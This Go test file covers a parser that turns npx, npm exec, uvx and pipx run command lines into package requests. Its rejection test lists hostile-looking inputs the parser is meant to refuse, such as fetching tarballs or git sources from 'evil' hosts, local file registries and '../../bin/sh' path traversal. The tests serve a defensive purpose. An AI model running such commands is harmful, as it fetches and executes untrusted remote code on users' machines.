package runner

import (
	"reflect"
	"strings"
	"testing"
)

func TestCommandLinesOfEveryRunner(t *testing.T) {
	for command, want := range map[string]Request{
		"npx -y @acme/notes@1.2 --root /work": {
			Ecosystem: NPM, Name: "@acme/notes", Range: "1.2", Args: []string{"--root", "/work"}},
		"/usr/bin/npx notes": {
			Ecosystem: NPM, Name: "notes", Args: []string{}},
		"npx --yes notes@latest a": {
			Ecosystem: NPM, Name: "notes", Args: []string{"a"}},
		"npx -y -- notes -- a": {
			Ecosystem: NPM, Name: "notes", Args: []string{"--", "a"}},
		"npx -p @acme/notes@^1 serve": {
			Ecosystem: NPM, Name: "@acme/notes", Range: "^1", Program: "serve", Args: []string{}},
		"npx --package=notes serve -v": {
			Ecosystem: NPM, Name: "notes", Program: "serve", Args: []string{"-v"}},
		"npm exec notes a": {
			Ecosystem: NPM, Name: "notes", Args: []string{"a"}},
		"npm exec -y -- notes@1 -v": {
			Ecosystem: NPM, Name: "notes", Range: "1", Args: []string{"-v"}},
		"npm exec -y notes@1 -- -v": {
			Ecosystem: NPM, Name: "notes", Range: "1", Args: []string{"-v"}},
		"pnpm dlx notes": {
			Ecosystem: NPM, Name: "notes", Args: []string{}},
		"pnpx notes": {
			Ecosystem: NPM, Name: "notes", Args: []string{}},
		"yarn dlx notes": {
			Ecosystem: NPM, Name: "notes", Args: []string{}},
		"bunx notes": {
			Ecosystem: NPM, Name: "notes", Args: []string{}},
		"uvx mcp-server-git --repository /work": {
			Ecosystem: PyPI, Name: "mcp-server-git", Args: []string{"--repository", "/work"}},
		"uvx mcp-server-git@0.6.2": {
			Ecosystem: PyPI, Name: "mcp-server-git", Range: "0.6.2", Args: []string{}},
		"uvx --from notes==1.2 serve": {
			Ecosystem: PyPI, Name: "notes", Range: "==1.2", Program: "serve", Args: []string{}},
		"uv tool run notes": {
			Ecosystem: PyPI, Name: "notes", Args: []string{}},
		"pipx run notes a": {
			Ecosystem: PyPI, Name: "notes", Args: []string{"a"}},
		"npx --registry=https://npm.example.test -y notes": {
			Ecosystem: NPM, Name: "notes",
			Index: "https://npm.example.test", Args: []string{}},
		"uvx --from notes[http,Cli_x]==1.2 serve": {
			Ecosystem: PyPI, Name: "notes",
			Range: "==1.2", Program: "serve", Extras: []string{"cli-x", "http"},
			Args: []string{}},
		"uvx --with words>=1,more -p 3.12.4 notes@1 -v": {
			Ecosystem: PyPI, Name: "notes",
			Range: "1", With: []string{"more", "words>=1"}, Python: "3.12",
			Args: []string{"-v"}},
		"uv tool run --index corp=https://pypi.example.test/simple notes": {Ecosystem: PyPI,
			Name: "notes", Indexes: []string{"https://pypi.example.test/simple"},
			Args: []string{}},
		"uvx --default-index https://pypi.example.test/simple --python=python3.11 notes": {
			Ecosystem: PyPI, Name: "notes", Index: "https://pypi.example.test/simple",
			Python: "3.11", Args: []string{}},
		"pipx run --spec notes>=1 serve": {
			Ecosystem: PyPI, Name: "notes", Range: ">=1", Program: "serve", Args: []string{}},
	} {
		got, ok := Parse(strings.Fields(command))
		if !ok || !reflect.DeepEqual(*got, want) {
			t.Errorf("%s: %+v, %v", command, got, ok)
		}
	}
}

// A key says what is installed, without passwords, and a request can be made of it.
func TestAKeyKeepsWhatIsAskedFor(t *testing.T) {
	for command, want := range map[string]string{
		"npx notes@^1": "^1",
		"uvx notes":    "",
		"uvx --with b -w a -p 3.12 --index https://me:secret@x.test/simple notes[z,y]==2": "==2?" +
			"extra=y&extra=z&index=https%3A%2F%2Fx.test%2Fsimple&python=3.12&with=a&with=b",
	} {
		r, ok := Parse(strings.Fields(command))
		if !ok || r.Key() != want {
			t.Errorf("%s: %v, %+v", command, ok, r)
			continue
		}
		again := OfKey(r.Ecosystem, r.Name, r.Key())
		if again.Key() != want || again.Spec() != r.Spec() {
			t.Errorf("%s: %+v", command, again)
		}
	}
}

// What may run something else than one package of a registry is left alone.
func TestWhatIsNotUnderstoodIsNotParsed(t *testing.T) {
	for _, command := range []string{
		"node notes", "npm install notes", "pipx install notes", "uv run notes",
		"npx", "npx -y", "npx --", "npx -c evil notes", "npx -p a -p b serve",
		"npx --registry=file:///evil notes", "npx ./notes", "npx ../notes", "npx /tmp/notes",
		"npx github:acme/notes", "npx acme/notes", "npx https://evil.example/x.tgz",
		"npx git+ssh://evil/x", "npx notes@file:/tmp/x", "npx notes@npm:evil", "npx notes@",
		"npx notes@https://evil", "npx -p notes ../../bin/sh", "npx NOTES", "npx .hidden",
		"npm exec notes -v", "npm exec --call evil", "uvx --python /tmp/python notes",
		"uvx git+https://evil/x", "uvx --index-url /evil notes", "uvx --with ./evil notes",
		"uvx --with git+https://evil/x notes", "uvx --from git+https://evil/x notes",
		"uvx --with-editable . notes", "uvx notes[../x]", "npx notes[x]", "uvx --with",
	} {
		if got, ok := Parse(strings.Fields(command)); ok {
			t.Errorf("%s: %+v", command, got)
		}
	}
}

func FuzzParse(f *testing.F) {
	f.Add("npx\x00-y\x00@acme/notes@1")
	f.Fuzz(func(t *testing.T, line string) {
		r, ok := Parse(strings.Split(line, "\x00"))
		if ok && (strings.HasPrefix(r.Name, "-") || strings.Contains(r.Name, "..") &&
			strings.Contains(r.Name, "/../") || strings.ContainsAny(r.Range, "/:@")) {
			t.Errorf("%q: %+v", line, r)
		}
	})
}
